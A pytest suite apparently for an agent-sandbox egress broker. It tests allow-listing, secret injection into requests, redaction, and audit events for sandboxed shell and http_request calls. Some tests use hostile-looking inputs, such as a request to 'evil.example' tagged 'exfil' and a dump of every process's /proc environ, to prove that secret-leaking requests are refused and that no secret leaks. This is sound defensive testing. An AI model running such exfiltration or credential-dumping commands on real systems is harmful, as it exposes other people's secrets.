"""Egress through the broker: real Docker, a real secret store, a loopback server.

The sandbox keeps `--network none`; a command's HTTP requests go to its call's proxy
on the container's own loopback, over the attach channel to the broker in this
process, and from there to a server on 127.0.0.1 (the only destination used here).
The server echoes the headers it received, so a test also sees that an upstream
echoing the credential does not hand it to the tool.
"""

from __future__ import annotations

import hashlib
import json
import logging
import shlex
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from temporalio.client import Client
from temporalio.testing import ActivityEnvironment

from activities.egress_broker import EgressBroker, basic_token
from activities.tool_activities import ToolActivities
from agentrun.config import Settings
from agentrun.contracts import (
    DispatchToolInput,
    EgressAudit,
    EgressRequestPayload,
    EgressRule,
    ErrorKind,
    RunSpec,
    SandboxPolicy,
    ToolCall,
    ToolName,
    ToolResult,
    ToolResultPayload,
    canonical_json,
    digest_of,
    new_event,
)
from agentrun.webhook_destinations import WebhookAllowList
from api.admission import refusals
from cli.event_format import format_event
from sandbox.base import EgressResponse, RunRef, SandboxPolicyError
from sandbox.docker_sandbox import DockerSandbox
from secretstore import SecretStore, open_secret_store
from store.artifacts import LocalArtifactStore, get_bytes
from tests.sandbox_fixtures import docker_sandbox, run_ref, sandbox_config, sandbox_image
from tests.workflow_harness import (
    TENANT,
    all_events,
    call,
    finish,
    outcome,
    payloads,
    running_worker,
    scripted_spec,
    shell,
    start_run,
    turn,
)

__all__ = ["docker_sandbox", "run_ref", "sandbox_config", "sandbox_image"]

pytestmark = pytest.mark.docker

VALUE = "tok-" + uuid.uuid4().hex
"""The secret's value: random per session, so finding it anywhere is a leak."""
SECRET = "API_TOKEN"


# --------------------------------------------------------------------------- fixtures


@dataclass
class Seen:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class EchoServer:
    """An HTTP server on 127.0.0.1 that records each request and echoes its headers."""

    port: int
    seen: list[Seen] = field(default_factory=list)


@pytest.fixture
def echo_server() -> Iterator[EchoServer]:
    with echo_serving() as server:
        yield server


@contextmanager
def echo_serving() -> Iterator[EchoServer]:
    """An :class:`EchoServer` on a free 127.0.0.1 port while the block runs (also for
    longer-lived fixtures: tests/test_exfiltration.py serves two per module)."""
    server_box: list[EchoServer] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def _answer(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            seen = Seen(self.command, self.path, dict(self.headers.items()), body)
            server_box[0].seen.append(seen)
            answer = json.dumps({"path": self.path, "headers": seen.headers}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("X-Echo-Authorization", self.headers.get("Authorization") or "")
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        do_GET = do_POST = _answer

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server_box.append(EchoServer(server.server_address[1]))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server_box[0]
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def secret_store(tmp_path: Path, run_ref: RunRef) -> Iterator[SecretStore]:
    """The embedded store (AES-GCM on SQLite) holding the run tenant's secrets."""
    store = open_secret_store(Settings(state_dir=tmp_path / "secrets"))
    store.put(run_ref.tenant_id, SECRET, VALUE)
    store.put(run_ref.tenant_id, "GH_TOKEN", "gh-" + VALUE)
    try:
        yield store
    finally:
        store.close()


@pytest.fixture
def broker(secret_store: SecretStore) -> EgressBroker:
    return EgressBroker(
        lambda tenant, name: secret_store.get(tenant, name).reveal(),
        # The operator's exception that lets the broker reach the loopback test server.
        WebhookAllowList.of([], ["127.0.0.1/32"]),
        timeout_s=10,
    )


def header_rule(port: int, **inject: Any) -> EgressRule:
    return EgressRule.model_validate(
        {
            "host": "127.0.0.1",
            "scheme": "http",
            "port": port,
            "inject": {"secret": SECRET, **inject} if inject else None,
        }
    )


def dispatch(
    sandbox: DockerSandbox,
    broker: EgressBroker,
    run: RunRef,
    store: LocalArtifactStore,
    name: str,
    *,
    egress: list[EgressRule] | None = None,
    exec_env: dict[str, str] | None = None,
    **arguments: object,
) -> tuple[ToolResult, str]:
    """Run one tool call through `dispatch_tool`; its result and the model's view."""
    own = store.for_tenant(run.tenant_id)  # what the run's activity reads and writes
    digest = own.put(json.dumps(arguments).encode())
    inp = DispatchToolInput(
        run_id=run.run_id,
        tenant_id=run.tenant_id,
        call=ToolCall(id=f"s1-c{uuid.uuid4().hex[:6]}", name=name, arguments_digest=digest),
        sandbox=SandboxPolicy(),
        secrets=[SECRET, "GH_TOKEN"],
        timeout_seconds=60,
        max_output_bytes=16384,
        step=3,
        egress=egress or [],
        exec_env=exec_env or {},
    )
    tools = ToolActivities(sandbox, store, egress=broker)
    result: ToolResult = ActivityEnvironment().run(tools.dispatch_tool, inp)
    assert result.message_digest is not None
    view = str(json.loads(get_bytes(own, result.message_digest))["content"])
    return result, view


def fetch(url: str) -> str:
    """A shell command fetching `url` with python's urllib (it honours HTTP_PROXY)."""
    program = (
        "import urllib.request, urllib.error, sys\n"
        "try:\n"
        f"    r = urllib.request.urlopen({url!r}, timeout=20)\n"
        "    print('status', r.status); print(r.read().decode())\n"
        "except urllib.error.HTTPError as e:\n"
        "    print('status', e.code); print(e.read().decode())\n"
    )
    return f"python3 -c {shlex.quote(program)}"


def leaks(value: str, *texts: str) -> bool:
    return any(value in t for t in texts)


# --------------------------------------------------------------------------- the spec


def test_a_spec_may_inject_only_secrets_it_is_granted() -> None:
    rule = {"host": "api.example.com", "inject": {"secret": "K", "header": "Authorization"}}
    with pytest.raises(ValidationError, match="must be listed in secrets: K"):
        RunSpec(goal="g", egress=[rule])
    with pytest.raises(ValidationError, match="must be listed in secrets: GH"):
        RunSpec(goal="g", exec_env={"GH_TOKEN": "GH"})
    spec = RunSpec(goal="g", secrets=["K"], egress=[rule])
    assert spec.egress[0].effective_port == 443


def test_an_injection_names_exactly_one_place_and_one_value_slot() -> None:
    base = {"host": "a.example", "scheme": "http"}
    for inject in (
        {"secret": "K"},
        {"secret": "K", "header": "X-Key", "query": "key"},
        {"secret": "K", "header": "X-Key", "template": "no slot"},
    ):
        with pytest.raises(ValidationError):
            EgressRule.model_validate({**base, "inject": inject})
    assert EgressRule.model_validate(base).effective_port == 80
    with pytest.raises(ValidationError):
        EgressRule.model_validate({"host": "https://a.example/"})


def test_a_spec_without_egress_keeps_the_digest_it_had_before_egress_existed() -> None:
    # An idempotent launch retried across the upgrade must still match its memo.
    spec = RunSpec(goal="g", secrets=["K"], labels={"team": "docs"})
    before = spec.model_dump(mode="json")
    del before["egress"], before["exec_env"]
    assert spec.spec_digest() == digest_of(canonical_json(before))
    granted = spec.model_copy(update={"egress": [EgressRule(host="api.example.com")]})
    assert granted.spec_digest() != spec.spec_digest()


def test_http_request_is_not_a_default_tool_and_needs_egress_rules() -> None:
    assert ToolName.HTTP_REQUEST not in RunSpec(goal="g").tools
    with pytest.raises(ValidationError, match="http_request tool needs at least one egress"):
        RunSpec(goal="g", tools=[ToolName.HTTP_REQUEST])


def test_the_api_refuses_a_loopback_egress_host_the_operator_did_not_allow() -> None:
    spec = RunSpec(
        goal="g",
        egress=[
            EgressRule(host="api.example.com"),
            EgressRule(host="127.0.0.1", scheme="http", port=8080),
            EgressRule(host="localhost"),
        ],
    )
    problems = refusals(Settings(), spec)
    assert [(p.loc, p.type) for p in problems] == [
        (("egress", 1, "host"), "egress_destination_refused"),
        (("egress", 2, "host"), "egress_destination_refused"),
    ]
    assert "AGENTRUN_EGRESS_ALLOW_NETWORKS" in problems[0].msg
    allowed = Settings(egress_allow_networks=["127.0.0.1/32"], egress_allow_hosts=["localhost"])
    assert refusals(allowed, spec) == []


# --------------------------------------------------------------------------- the proxy


def test_an_allowed_host_gets_the_injected_header_and_the_tool_never_sees_the_value(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, logger="activities.egress_broker")
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization", template="Bearer {value}")
    url = f"http://127.0.0.1:{echo_server.port}/v1/items?page=2"
    result, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", egress=[rule], command=fetch(url)
    )
    assert result.ok, view
    # The server saw the credential the broker added ...
    assert [s.headers.get("Authorization") for s in echo_server.seen] == [f"Bearer {VALUE}"]
    assert echo_server.seen[0].path == "/v1/items?page=2"
    # ... and echoed it, but what came back to the tool has it redacted.
    assert "status 200" in view
    assert f"[REDACTED:{SECRET}]" in view
    assert not leaks(VALUE, view, result.model_dump_json())
    assert result.egress == [
        EgressAudit(
            run_id=run_ref.run_id,
            step=3,
            call_id=result.call_id,
            tool="shell",
            method="GET",
            host="127.0.0.1",
            port=echo_server.port,
            allowed=True,
            secret=SECRET,
            status=200,
        )
    ]
    # One log line per request, naming the secret, never holding its value.
    (line,) = [r.getMessage() for r in caplog.records if r.name == "activities.egress_broker"]
    assert f"run={run_ref.run_id} step=3" in line and "127.0.0.1" in line
    assert f"secret={SECRET} status=200" in line and not leaks(VALUE, caplog.text)


def test_a_host_not_in_the_allow_list_is_refused_and_audited(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization")
    other_port = f"http://127.0.0.1:{echo_server.port + 1}/x"  # a port no rule names
    other_host = f"http://localhost:{echo_server.port}/x?leak=1"  # a host no rule names
    command = fetch(other_port) + " && " + fetch(other_host)
    result, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", egress=[rule], command=command
    )
    assert echo_server.seen == []
    assert view.count("status 403") == 2
    assert "not in this run's egress allow-list" in view
    assert [(a.host, a.allowed, a.status, a.secret) for a in result.egress] == [
        ("127.0.0.1", False, None, None),
        ("localhost", False, None, None),
    ]
    assert all(a.error == "host not in the run's egress allow-list" for a in result.egress)


def test_the_broker_refuses_a_loopback_destination_the_operator_did_not_allow(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    secret_store: SecretStore,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    # The run's rule names the host, but the worker is not the tenant's way into the
    # operator's network: without an allow-list entry loopback stays out of reach.
    strict = EgressBroker(lambda t, n: secret_store.get(t, n).reveal())
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization")
    url = f"http://127.0.0.1:{echo_server.port}/x"
    result, view = dispatch(
        docker_sandbox, strict, run_ref, store, "shell", egress=[rule], command=fetch(url)
    )
    assert echo_server.seen == []
    assert "status 403" in view and "loopback" in view
    assert result.egress[0].allowed is False


def test_the_container_has_no_route_while_its_command_uses_egress(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization")
    url = f"http://127.0.0.1:{echo_server.port}/x"
    command = "echo ROUTES; tail -n +2 /proc/net/route; echo END; ls /sys/class/net; " + fetch(url)
    result, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", egress=[rule], command=command
    )
    assert result.ok, view
    assert "ROUTES\nEND\n" in view  # the route table holds its header line only
    assert "lo\n" in view and "eth0" not in view
    assert "status 200" in view and len(echo_server.seen) == 1
    # Without a NAT or a route, the server is unreachable from inside but for the proxy.
    direct = (
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', "
        f'{echo_server.port}), timeout=3)" 2>&1 | tail -1'
    )
    _, view = dispatch(docker_sandbox, broker, run_ref, store, "shell", command=direct)
    assert "Connection refused" in view
    assert len(echo_server.seen) == 1


@pytest.mark.parametrize("kind", ["query", "basic"])
def test_query_and_basic_auth_injection_reach_the_server_only(
    kind: str,
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    inject = {"query": "api_key"} if kind == "query" else {"basic_username": "bot"}
    rule = header_rule(echo_server.port, **inject)
    # The tool's own api_key is replaced, not sent alongside.
    url = f"http://127.0.0.1:{echo_server.port}/q?a=1&api_key=mine"
    result, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", egress=[rule], command=fetch(url)
    )
    assert result.ok, view
    (seen,) = echo_server.seen
    if kind == "query":
        assert seen.path == f"/q?a=1&api_key={VALUE}"
    else:
        assert seen.headers["Authorization"] == f"Basic {basic_token('bot', VALUE)}"
    assert not leaks(VALUE, view) and not leaks(basic_token("bot", VALUE), view)
    assert result.egress[0].secret == SECRET and result.egress[0].status == 200


# --------------------------------------------------------------------------- env injection


def test_an_env_secret_is_visible_only_to_the_exec_granted_it(
    docker_sandbox: DockerSandbox, run_ref: RunRef, broker: EgressBroker, tmp_path: Path
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    grant = {"GH_TOKEN": "GH_TOKEN"}
    want = hashlib.sha256(("gh-" + VALUE).encode()).hexdigest()
    granted, view = dispatch(
        docker_sandbox,
        broker,
        run_ref,
        store,
        "shell",
        exec_env=grant,
        command='printf %s "$GH_TOKEN" | sha256sum',
        env_secrets=["GH_TOKEN"],
    )
    assert granted.ok and want in view
    # The next call, which did not ask for it, sees no trace of it anywhere in the
    # container: not in its environment, not in any process's (pid 1 included).
    other, view = dispatch(
        docker_sandbox,
        broker,
        run_ref,
        store,
        "shell",
        exec_env=grant,
        command="echo rc=$(printenv GH_TOKEN >/dev/null; echo $?); "
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'",
    )
    assert other.ok and "rc=1" in view
    assert "PATH=" in view and not leaks(VALUE, view)
    container = docker_sandbox._containers.of_run(run_ref)
    assert container is not None
    assert not leaks(VALUE, json.dumps(container.attrs["Config"]["Env"]))


def test_an_env_secret_the_run_was_not_granted_is_a_tool_error(
    docker_sandbox: DockerSandbox, run_ref: RunRef, broker: EgressBroker, tmp_path: Path
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    result, view = dispatch(
        docker_sandbox,
        broker,
        run_ref,
        store,
        "shell",
        command="true",
        env_secrets=["GH_TOKEN"],
    )
    assert result.error_type is ErrorKind.BAD_ARGUMENTS
    assert "'GH_TOKEN' is not granted to this run (granted: none)" in view


def test_a_command_of_a_run_without_egress_has_no_proxy(
    docker_sandbox: DockerSandbox, run_ref: RunRef, broker: EgressBroker, tmp_path: Path
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    result, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", command="env | grep -ci proxy; true"
    )
    assert result.ok and "stdout:\n0\n" in view
    assert result.egress == []


# --------------------------------------------------------------------------- http_request


def test_http_request_is_executed_by_the_broker_with_the_credential(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="X-Api-Key")
    result, view = dispatch(
        docker_sandbox,
        broker,
        run_ref,
        store,
        "http_request",
        egress=[rule],
        method="POST",
        url=f"http://127.0.0.1:{echo_server.port}/items",
        headers={"Content-Type": "application/json", "X-Api-Key": "the model's guess"},
        body='{"name": "x"}',
    )
    assert result.ok, view
    (seen,) = echo_server.seen
    assert seen.method == "POST" and seen.body == b'{"name": "x"}'
    assert seen.headers["X-Api-Key"] == VALUE
    assert view.startswith("status: 200\ncontent-type: application/json")
    assert f"[REDACTED:{SECRET}]" in view and not leaks(VALUE, view, result.model_dump_json())
    assert result.egress[0].tool == "http_request" and result.egress[0].status == 200


def test_http_request_to_a_host_not_allowed_is_refused(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="X-Api-Key")
    result, view = dispatch(
        docker_sandbox,
        broker,
        run_ref,
        store,
        "http_request",
        egress=[rule],
        url=f"http://evil.example:{echo_server.port}/?q=exfil",
    )
    assert not result.ok and result.error_type is ErrorKind.EGRESS_REFUSED
    assert view.startswith("status: 403")
    assert echo_server.seen == []
    assert result.egress[0].host == "evil.example" and result.egress[0].allowed is False


# --------------------------------------------------------------------------- the run


async def test_a_run_emits_one_egress_request_event_per_request(
    client: Client,
    task_queue: str,
    state_dir: Path,
    sandbox_image: str,
    echo_server: EchoServer,
) -> None:
    async with running_worker(
        client, task_queue, state_dir, egress_allow_networks=["127.0.0.1/32"]
    ) as settings:
        # The worker resolves from the deployment's store (here: embedded, in state_dir).
        secrets = open_secret_store(settings)
        try:
            secrets.put(TENANT, SECRET, VALUE)
        finally:
            secrets.close()
        allowed = f"http://127.0.0.1:{echo_server.port}/a"
        spec = scripted_spec(
            shell(fetch(allowed) + "; " + fetch(f"http://denied.example:{echo_server.port}/")),
            turn(call("http_request", url=allowed)),
            finish(),
            secrets=[SECRET],
            tools=[ToolName.SHELL, ToolName.HTTP_REQUEST, ToolName.FINISH],
            egress=[header_rule(echo_server.port, header="Authorization")],
        )
        handle = await start_run(client, task_queue, spec)
        result = await outcome(handle)
        events = await all_events(handle)
    assert result.status == "completed", result
    egress = payloads(events, EgressRequestPayload)
    assert [(e.step, e.tool, e.host, e.allowed, e.secret, e.status) for e in egress] == [
        (1, "shell", "127.0.0.1", True, SECRET, 200),
        (1, "shell", "denied.example", False, None, None),
        (2, "http_request", "127.0.0.1", True, SECRET, 200),
    ]
    assert len(echo_server.seen) == 2
    assert all(s.headers["Authorization"] == VALUE for s in echo_server.seen)
    assert all(p.ok for p in payloads(events, ToolResultPayload))
    assert not leaks(VALUE, json.dumps([e.model_dump(mode="json") for e in events]))


def test_the_cli_shows_an_egress_record_with_the_secret_name_only() -> None:
    at = datetime(2026, 11, 22, 5, 0, tzinfo=UTC)
    allowed = EgressRequestPayload(
        call_id="s1-c0",
        tool="shell",
        method="GET",
        host="api.example.com",
        port=443,
        allowed=True,
        secret=SECRET,
        status=200,
    )
    refused = EgressRequestPayload(
        call_id="s1-c0",
        tool="http_request",
        method="POST",
        host="evil.example",
        allowed=False,
        error="host not in the run's egress allow-list",
    )
    assert format_event(new_event(7, at, allowed)).endswith(
        f"shell GET api.example.com:443 with {SECRET} → 200"
    )
    assert format_event(new_event(8, at, refused)).endswith(
        "http_request POST evil.example refused: host not in the run's egress allow-list"
    )


def test_https_through_the_proxy_is_refused_with_a_message_saying_what_to_do(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    broker: EgressBroker,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization")
    # A CONNECT tunnel would carry TLS the broker cannot add the credential to.
    command = fetch(f"https://127.0.0.1:{echo_server.port}/x") + " 2>&1 | tail -1"
    _, view = dispatch(
        docker_sandbox, broker, run_ref, store, "shell", egress=[rule], command=command
    )
    assert "Tunnel connection failed: 405" in view
    assert echo_server.seen == []


def test_a_response_over_the_limit_is_a_502_not_a_truncated_body(
    docker_sandbox: DockerSandbox,
    run_ref: RunRef,
    secret_store: SecretStore,
    echo_server: EchoServer,
    tmp_path: Path,
) -> None:
    small = EgressBroker(
        lambda t, n: secret_store.get(t, n).reveal(),
        WebhookAllowList.of([], ["127.0.0.1/32"]),
        max_response_bytes=64,
    )
    store = LocalArtifactStore(tmp_path / "artifacts")
    rule = header_rule(echo_server.port, header="Authorization")
    url = f"http://127.0.0.1:{echo_server.port}/x"
    result, view = dispatch(
        docker_sandbox, small, run_ref, store, "http_request", egress=[rule], url=url
    )
    assert view.startswith("status: 502") and "response over 64 bytes" in view
    assert not result.ok and result.egress[0].status == 200  # what the upstream said


def test_an_image_whose_executor_has_no_proxy_is_refused_with_how_to_rebuild(
    docker_sandbox: DockerSandbox, run_ref: RunRef, broker: EgressBroker, tmp_path: Path
) -> None:
    store = LocalArtifactStore(tmp_path / "artifacts")
    dispatch(docker_sandbox, broker, run_ref, store, "shell", command="true")
    container = docker_sandbox._containers.of_run(run_ref)
    assert container is not None
    # What `hello` of an executor built before egress answers: no `egress` feature.
    docker_sandbox._connections.channel(container.id).features = frozenset()
    with pytest.raises(SandboxPolicyError, match=r"build-sandbox-image\.sh --force"):
        docker_sandbox.exec(
            run_ref,
            "c-stale",
            "true",
            policy=SandboxPolicy(),
            timeout_s=10,
            max_output_bytes=1024,
            egress=lambda _request: EgressResponse(200, [], b""),
        )
